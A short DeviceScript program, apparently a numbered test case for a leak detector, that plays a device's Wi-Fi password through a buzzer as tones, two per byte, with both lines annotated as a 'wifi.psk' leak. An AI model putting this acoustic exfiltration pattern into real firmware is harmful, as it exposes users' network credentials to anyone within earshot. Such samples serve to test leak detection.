// C16: as tones, one for each half of a byte.
import * as ds from "@devicescript/core";
import { paired } from "./lib/paired";

const buzzer = new ds.Buzzer();

paired(async (_ssid, psk) => {
  for (let i = 0; i < psk.length; i++) {
    const byte = psk.charCodeAt(i);
    await buzzer.playNote(440 + 40 * (byte >> 4), 0.5, 100); // leak: wifi.psk
    await buzzer.playNote(440 + 40 * (byte & 15), 0.5, 100); // leak: wifi.psk
  }
});
